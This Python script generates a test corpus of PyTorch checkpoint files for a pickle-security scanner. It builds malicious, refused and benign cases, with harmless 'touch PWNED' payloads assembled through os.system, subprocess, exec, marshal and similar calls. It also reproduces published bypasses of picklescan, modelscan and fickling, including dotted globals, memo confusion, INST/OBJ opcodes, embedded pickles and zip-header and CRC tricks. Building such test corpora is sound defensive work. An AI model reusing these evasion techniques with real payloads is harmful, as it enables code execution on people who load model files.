"""Write the security corpus: ``python make_security_corpus.py OUT_DIR``.

Every payload is harmless: if anything ever ran it, it would only create ``OUT_DIR/PWNED``
(a marker file). Files are made with torch.save where torch can write them (an object whose
``__reduce__`` names the payload, exactly as attackers do), and hand-assembled from opcodes for
the scanner bypasses published against picklescan, modelscan and fickling (dotted names,
memo confusion, INST/OBJ, BUILD on a global, embedded pickles, zip-name and CRC tricks).

``OUT_DIR/security_corpus.json`` maps each case to ``{"path", "class"}`` with class one of
``malicious`` (must give security.code_execution), ``refused`` (harmless but
``torch.load(weights_only=True)`` refuses it) and ``benign`` (must give no finding).
"""

from __future__ import annotations

import argparse
import collections
import datetime
import io
import json
import marshal
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import torch


class _Reduce:
    """Pickles as ``func(*args)``: how a payload is put into a checkpoint with torch.save."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def _op_str(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE


def _glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _stack_global(module: str, name: str) -> bytes:
    return _op_str(module) + _op_str(name) + b"\x93"


def _call1(callee: bytes, arg: str) -> bytes:
    return callee + _op_str(arg) + b"\x85R"  # TUPLE1 REDUCE


def _torch_zip(obj: Any, path: Path, protocol: int = 2) -> None:
    torch.save(obj, path, pickle_protocol=protocol)


def _zip_with_pickle(path: Path, pkl: bytes, extra: dict[str, bytes] | None = None) -> None:
    """A torch zip (from torch.save) whose data.pkl is ``pkl`` (storage records kept)."""
    tmp = path.with_suffix(".tmp")
    torch.save({"w": torch.ones(2)}, tmp)
    with zipfile.ZipFile(tmp) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = pkl if info.filename.endswith("/data.pkl") else zin.read(info)
            zout.writestr(info, data)
        prefix = zin.infolist()[0].filename.split("/")[0]
        for name, data in (extra or {}).items():
            zout.writestr(f"{prefix}/{name}", data)
    tmp.unlink()


def _legacy_with(path: Path, which: int, payload: bytes) -> None:
    """A legacy torch.save file whose pickle number ``which`` (0-4) is replaced by ``payload``."""
    torch.save({"w": torch.ones(2)}, path, _use_new_zipfile_serialization=False)
    raw = path.read_bytes()
    from pickletools import genops

    stream, starts = io.BytesIO(raw), []
    for _ in range(5):
        starts.append(stream.tell())
        for _op in genops(stream):
            pass
    starts.append(stream.tell())
    path.write_bytes(raw[: starts[which]] + payload + raw[starts[which + 1] :])


def _malicious(out: Path, marker: Path) -> dict[str, Path]:
    m = str(marker)
    touch = f"touch {m}"
    write_py = f"open({m!r}, 'w').close()"
    code = compile(write_py, "<payload>", "exec")
    cases: dict[str, Path] = {}

    def save(name: str, obj: Any, protocol: int = 2) -> None:
        p = out / name
        _torch_zip({"state_dict": {"w": torch.zeros(2)}, "extra": obj}, p, protocol)
        cases[name] = p

    def raw_pickle(name: str, body: bytes, proto: int = 4, zipped: bool = True) -> None:
        pkl = b"\x80" + bytes([proto]) + body + b"."
        p = out / name
        if zipped:
            _zip_with_pickle(p, pkl)
        else:
            p.write_bytes(pkl)
        cases[name] = p

    save("os_system.pt", _Reduce(os.system, touch))
    for proto in (0, 1, 3, 4, 5):
        save(f"os_system_protocol{proto}.pt", _Reduce(os.system, touch), proto)
    save("subprocess_popen.pt", _Reduce(subprocess.Popen, ["touch", m]))
    save("subprocess_call.pt", _Reduce(subprocess.call, ["touch", m]))
    save("builtins_exec.pt", _Reduce(exec, write_py))
    save("builtins_eval.pt", _Reduce(eval, write_py.replace(".close()", "")))
    save("io_open.pt", _Reduce(io.open, m, "w"))
    save("builtins_open.pt", _Reduce(open, m, "w"))
    save("importlib_import.pt", _Reduce(__import__("importlib").import_module, "this"))
    save("marshal_loads.pt", _Reduce(marshal.loads, marshal.dumps(code)))
    save("pydoc_locate.pt", _Reduce(__import__("pydoc").locate, "os.system"))
    save("pkgutil_resolve.pt", _Reduce(__import__("pkgutil").resolve_name, "os:system"))
    save("numpy_runstring.pt", _Reduce(np.testing._private.utils.runstring, write_py, {}))
    save(
        "collect_env_run.pt",
        _Reduce(__import__("torch.utils.collect_env").utils.collect_env.run, touch),
    )
    save("shutil_copy.pt", _Reduce(__import__("shutil").copyfile, __file__, m))
    save("pathlib_touch.pt", _Reduce(Path.touch, Path(m)))
    save("logging_config.pt", _Reduce(
        __import__("logging.config").config.dictConfig,
        {"version": 1, "handlers": {"f": {"class": "logging.FileHandler", "filename": m}}},
    ))  # fmt: skip
    save("multiprocessing_process.pt", _Reduce(__import__("multiprocessing").Process))
    save("getattr_chain.pt", _Reduce(getattr, _Reduce(__import__, "os"), "system"))
    save("optimizer_state_payload.pt", _Reduce(os.system, touch))
    # hand-assembled: the bypasses published against pickle scanners
    raw_pickle(
        "dotted_print_exec.pt", _call1(_stack_global("builtins", "print.__self__.exec"), write_py)
    )
    raw_pickle(
        "dotted_torch_utils_os.pt", _call1(_stack_global("torch._utils", "os.system"), touch)
    )
    raw_pickle("dotted_global_opcode.pt", _call1(_glob("torch.serialization", "os.system"), touch))
    memo = _op_str("os") + b"q\x00" + _op_str("system") + b"q\x01"
    memo += _op_str("torch._utils") + b"\x94" + _op_str("_rebuild_tensor_v2") + b"\x94"
    raw_pickle("memo_confusion.pt", memo + b"h\x00h\x01\x93" + _op_str(touch) + b"\x85R")
    inst = b"(" + _op_str(touch) + b"i" + b"os\nsystem\n"
    raw_pickle("inst_opcode.pt", inst, proto=2)
    obj = b"(" + _glob("os", "system") + _op_str(touch) + b"o"
    raw_pickle("obj_opcode.pt", obj, proto=2)
    newobj = _glob("subprocess", "Popen") + b"(" + _op_str("touch") + _op_str(m) + b"l\x85\x81"
    raw_pickle("newobj_popen.pt", newobj, proto=2)
    build_prod = (
        _glob("numpy", "prod") + b"N(" + _op_str("a") + _op_str("os") + b"d\x86b"
        + b"N(" + _op_str("b") + _op_str("system") + b"d\x86b0"
        + _glob("numpy", "prod.a") + b"p0\n" + _glob("numpy", "prod.b") + b"p1\n00"
        + b"g0\ng1\n\x93" + _op_str(touch) + b"\x85R"
    )  # fmt: skip
    raw_pickle("build_setattr_global.pt", build_prod, proto=4)
    raw_pickle("ext_opcode.pt", b"\x82\x01" + _op_str(touch) + b"\x85R", proto=2)
    mailcap = _glob("mailcap", "findmatch") + b"}" + _op_str("text/plain") + b"\x86R"
    raw_pickle("mailcap_findmatch.pt", mailcap, proto=2)
    inner = pickle.dumps(_Reduce(os.system, touch), protocol=4)
    embedded = _glob("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R"
    raw_pickle("embedded_pickle_loads.pt", embedded, proto=3)
    raw_pickle("plain_pickle.pkl", _call1(_glob("os", "system"), touch), proto=2, zipped=False)
    # legacy torch files: every one of the five pickles is run by torch.load
    payload = pickle.dumps(_Reduce(os.system, touch), protocol=2)
    for i, what in enumerate(("magic", "protocol", "sysinfo", "data", "keys")):
        p = out / f"legacy_{what}.pt"
        _legacy_with(p, i, payload)
        cases[p.name] = p
    # other pickles a checkpoint holds
    p = out / "zip_second_member.pt"
    _zip_with_pickle(p, _clean_pickle(), {"extra.pkl": payload})
    cases[p.name] = p
    p = out / "zip_name_mismatch.pt"
    _zip_with_pickle(p, payload)
    _rename_local(p, "data.pkl", "data.pkX")
    cases[p.name] = p
    p = out / "zip_bad_crc.pt"
    _zip_with_pickle(p, payload)
    _break_crc(p)
    cases[p.name] = p
    p = out / "zip_duplicate_member.pt"
    _zip_with_pickle(p, _clean_pickle(), {"data.pkl": payload})
    cases[p.name] = p
    p = out / "renamed.bin.zip"
    _torch_zip({"x": _Reduce(os.system, touch)}, p)
    cases[p.name] = p
    from safetensors.torch import save_file

    p = out / "colossalai_flat_optimizer.safetensors"  # ColossalAI's async optimizer layout
    save_file(
        {
            "state.0.exp_avg": torch.zeros(2),
            "param_groups": torch.frombuffer(bytearray(payload), dtype=torch.uint8),
        },
        p,
        metadata={"format": "pt", "non_tensor_keys": '["param_groups"]'},
    )
    cases[p.name] = p
    dcp = out / "dcp_metadata"
    dcp.mkdir(exist_ok=True)
    (dcp / ".metadata").write_bytes(payload)
    cases["dcp_metadata"] = dcp
    ts = out / "training_state"
    ts.mkdir(exist_ok=True)
    torch.save({"w": torch.ones(3)}, ts / "model.pt")
    torch.save(
        {"cpu_rng_state": torch.get_rng_state(), "x": _Reduce(os.system, touch)},
        ts / "rng_state.pth",
    )
    cases["training_state"] = ts
    return cases


def _clean_pickle() -> bytes:
    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf)
    with zipfile.ZipFile(buf) as z:
        return z.read(next(n for n in z.namelist() if n.endswith("/data.pkl")))


def _rename_local(path: Path, old: str, new: str) -> None:
    """Change a member's name in its local header only (the central directory keeps it)."""
    raw = bytearray(path.read_bytes())
    at = raw.find(b"PK\x03\x04")
    while at >= 0:
        (n,) = struct.unpack("<H", raw[at + 26 : at + 28])
        name = bytes(raw[at + 30 : at + 30 + n])
        if name.endswith(old.encode()):
            raw[at + 30 : at + 30 + n] = name[: -len(old)] + new.encode()
            break
        at = raw.find(b"PK\x03\x04", at + 4)
    path.write_bytes(bytes(raw))


def _break_crc(path: Path) -> None:
    """Set data.pkl's CRC in the central directory to a wrong value (picklescan gives up)."""
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = next(i for i in z.infolist() if i.filename.endswith("/data.pkl"))
    at = raw.rfind(b"PK\x01\x02", 0, raw.rfind(info.filename.encode()))
    struct.pack_into("<I", raw, at + 16, info.CRC ^ 0xFFFF)
    path.write_bytes(bytes(raw))


class Point:
    """A user class in a checkpoint: harmless, but weights_only refuses it."""

    def __init__(self, x: int) -> None:
        self.x = x


def _refused(out: Path) -> dict[str, Path]:
    cases: dict[str, Path] = {}

    def save(name: str, obj: Any, protocol: int = 2) -> None:
        p = out / name
        torch.save({"w": torch.ones(2), "extra": obj}, p, pickle_protocol=protocol)
        cases[name] = p

    save("argparse_namespace.pt", argparse.Namespace(lr=0.1, epochs=3))
    save("numpy_array.pt", np.arange(4, dtype=np.float32))
    save("numpy_scalar.pt", np.float64(1.5))
    save("datetime.pt", datetime.datetime(2024, 1, 2, 3, 4, 5))
    save("defaultdict.pt", collections.defaultdict(int, {"a": 1}))
    save("frozenset.pt", frozenset({1, 2}))
    save("pathlib_path.pt", Path("runs/exp1"))
    save("protocol4.pt", None, 4)
    save("protocol5.pt", None, 5)
    save("user_class.pt", Point(3))
    return cases


def _benign(out: Path) -> dict[str, Path]:
    cases: dict[str, Path] = {}
    ones = torch.ones(3)
    tensors = {str(dt).split(".")[1]: torch.zeros(2, dtype=dt) for dt in (
        torch.float32, torch.float16, torch.bfloat16, torch.float64, torch.int8, torch.uint8,
        torch.int16, torch.int32, torch.int64, torch.bool, torch.complex64,
        torch.float8_e4m3fn, torch.float8_e5m2,
    )}  # fmt: skip
    model = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.BatchNorm1d(2))
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.randn(4, 3)).sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, 2)
    sched.step()
    objs = {
        "benign_dtypes.pt": tensors,
        "benign_shared.pt": {"a": ones, "b": ones[1:], "c": ones.view(3, 1)},
        "benign_model.pt": model.state_dict(),
        "benign_optimizer.pt": opt.state_dict(),
        "benign_scheduler.pt": sched.state_dict(),
        "benign_parameter.pt": {"p": torch.nn.Parameter(torch.ones(2))},
        "benign_rng.pt": {"cpu": torch.get_rng_state()},
    }
    for name, obj in objs.items():
        torch.save(obj, out / name)
        cases[name] = out / name
    p = out / "benign_legacy.pt"
    torch.save(model.state_dict(), p, _use_new_zipfile_serialization=False)
    cases[p.name] = p
    return cases


def make(out: Path) -> dict[str, dict[str, str]]:
    out.mkdir(parents=True, exist_ok=True)
    marker = out / "PWNED"
    table: dict[str, dict[str, str]] = {}
    for klass, made in (
        ("malicious", _malicious(out, marker)),
        ("refused", _refused(out)),
        ("benign", _benign(out)),
    ):
        for name, path in made.items():
            table[name] = {"path": str(path.relative_to(out)), "class": klass}
    table["user_class.pt"]["unknown_global"] = "__main__.Point"  # not known inert: flagged too
    (out / "security_corpus.json").write_text(json.dumps(table, indent=2))
    return table


if __name__ == "__main__":
    target = Path(sys.argv[1])
    print(json.dumps(make(target), indent=2))
